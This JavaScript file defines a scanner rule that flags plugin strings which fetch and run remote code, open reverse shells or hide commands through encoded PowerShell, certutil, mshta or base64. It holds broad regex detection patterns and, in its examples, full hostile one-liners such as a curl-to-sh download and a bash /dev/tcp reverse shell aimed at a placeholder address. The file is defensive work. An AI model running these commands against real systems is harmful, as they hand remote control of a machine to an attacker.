import { defineRule } from './defineRule.js';

export const shellPayload = defineRule({
  id: 'shell-payload',
  severity: 'high',
  message: 'It holds a command that fetches and runs code, opens a remote shell, or hides what it does.',
  why: 'Such a command line has no honest place in a plugin, whatever starts it.',
  match: {
    on: 'facts',
    any: [
      {
        kind: 'string',
        name: /\b(?:curl|wget)[\s$"'][^|;&\n]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:curl|wget)[\s$"'][^|\n]{0,300}\|\s*(?:python3?|perl|node|php|ruby)\b|\b(?:ba)?sh\s+(?:-c\s+)?["']?(?:<\(|\$\(|`)\s*(?:curl|wget)\b/i,
      },
      {
        kind: 'string',
        name: /\b(?:curl|wget)\b[^\n]{0,400}?(?:&&|;)\s*(?:sudo\s+)?(?:chmod|(?:ba)?sh|python3?|\.\/|nohup)/i,
      },
      {
        kind: 'string',
        name: /\/dev\/(?:tcp|udp)\/|\bbash\s+-i\b|\b(?:nc|ncat|netcat)\b[^\n]{0,100}\s-[a-z]*[ec]\b|\bmkfifo\b[^\n]{0,200}\bnc\b|\bsocat\b[^\n]{0,200}\bexec:/i,
      },
      {
        kind: 'string',
        name: /\bpowershell(?:\.exe)?\b[^\n]{0,200}-(?:e|en|enc|encodedcommand|w(?:indowstyle)? hidden|nop|noni|ep bypass|executionpolicy bypass)\b|\b(?:IEX|Invoke-Expression)\b\s*[("'$]|\|\s*(?:IEX|Invoke-Expression)\b|\bDownload(?:String|File)\s*\(|\bInvoke-WebRequest\b[^\n]{0,300}(?:-OutFile|;)|\bStart-BitsTransfer\b/i,
      },
      {
        kind: 'string',
        name: /\bcertutil\b[^\n]{0,100}-(?:urlcache|decode)|\bbitsadmin\b[^\n]{0,100}\/transfer|\bmshta\b[^\n]{0,40}(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]{0,100}\/i:http|\brundll32\b[^\n]{0,100}javascript:/i,
      },
      {
        kind: 'string',
        name: /\bbase64\s+(?:-d|-D|--decode)\b[^\n]{0,40}\|\s*(?:ba|z)?sh\b|\becho\b[^\n]{0,2000}\|\s*base64\s+(?:-d|-D|--decode)\b/i,
      },
      {
        kind: 'string',
        name: /\b(?:python3?|perl|ruby|php|node)\s+-(?:c|e|r)\s[^\n]{0,200}(?:socket|exec|eval|child_process|base64|urllib|https?:)/i,
      },
    ],
  },
  examples: {
    flags: [
      "exec('curl -s http://203.0.113.7/x | sh')",
      "exec('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')",
      "exec('powershell -w hidden -enc SQBFAFgA')",
      "exec('wget -q ' + url + ' -O /tmp/x && chmod +x /tmp/x')",
      { path: 'main.py', runtime: 'python', content: "import os\nos.system('certutil -urlcache -f ' + url)" },
    ],
    passes: [
      "exec('git status')",
      "const text = 'Use curl to see it.';",
      "const bots = 'spider|curl/|python-requests|wget';",
      "exec('node build.js')",
    ],
  },
});
